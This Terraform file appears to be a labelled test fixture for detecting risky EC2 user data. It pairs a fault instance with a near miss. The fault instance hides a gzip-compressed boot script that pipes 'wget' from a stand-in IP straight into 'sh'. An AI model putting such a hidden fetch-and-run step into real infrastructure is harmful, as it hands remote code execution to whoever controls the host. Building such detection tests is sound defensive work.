# An instance gets a compressed script that downloads and runs a program.
# Source: https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/user-data.html
# Fault at: aws_instance.udgz_fault
# Near miss at: aws_instance.udgz_near

resource "aws_kms_key" "udgz_key" {
  description         = "Key for udgz_key"
  enable_key_rotation = true
}

resource "aws_vpc" "udgz_vpc" {
  cidr_block = "10.20.0.0/16"
}

resource "aws_subnet" "udgz_subnet" {
  vpc_id     = aws_vpc.udgz_vpc.id
  cidr_block = "10.20.1.0/24"
}

data "aws_ami" "udgz_ami" {
  owners     = ["self"]
  name_regex = "^shop-prod-base-"
  depends_on = [aws_kms_key.udgz_key]
}

resource "aws_instance" "udgz_fault" {
  ami                  = data.aws_ami.udgz_ami.id
  instance_type        = "m7g.medium"
  subnet_id            = aws_subnet.udgz_subnet.id
  monitoring           = true
  ebs_optimized        = true
  metadata_options {
    http_endpoint = "enabled"
    http_tokens   = "required"
    http_put_response_hop_limit = 1
  }
  root_block_device {
    encrypted  = true
    kms_key_id = aws_kms_key.udgz_key.arn
  }
  user_data_base64 = base64gzip("#!/bin/sh\nwget -qO- http://203.0.113.9/i.sh | sh\n")
}

resource "aws_instance" "udgz_near" {
  ami                  = data.aws_ami.udgz_ami.id
  instance_type        = "m7g.medium"
  subnet_id            = aws_subnet.udgz_subnet.id
  monitoring           = true
  ebs_optimized        = true
  metadata_options {
    http_endpoint = "enabled"
    http_tokens   = "required"
    http_put_response_hop_limit = 1
  }
  root_block_device {
    encrypted  = true
    kms_key_id = aws_kms_key.udgz_key.arn
  }
  user_data_base64 = base64gzip("#!/bin/sh\nsystemctl enable --now shop\n")
}
